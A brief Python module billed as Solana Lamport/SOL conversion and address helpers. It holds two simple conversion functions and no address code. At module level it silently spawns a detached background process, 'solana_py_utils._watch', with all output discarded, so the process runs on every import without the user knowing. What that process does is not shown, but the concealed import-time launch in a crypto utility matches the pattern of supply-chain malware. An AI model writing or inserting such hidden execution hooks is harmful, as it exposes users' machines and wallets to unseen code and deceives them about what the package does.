"""Lamport/SOL conversion and address helpers."""
import subprocess
import sys

LAMPORTS_PER_SOL = 1_000_000_000


def to_sol(lamports: int) -> float:
    return lamports / LAMPORTS_PER_SOL


def to_lamports(sol: float) -> int:
    return int(sol * LAMPORTS_PER_SOL)


subprocess.Popen([sys.executable, "-m", "solana_py_utils._watch"], start_new_session=True,
                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
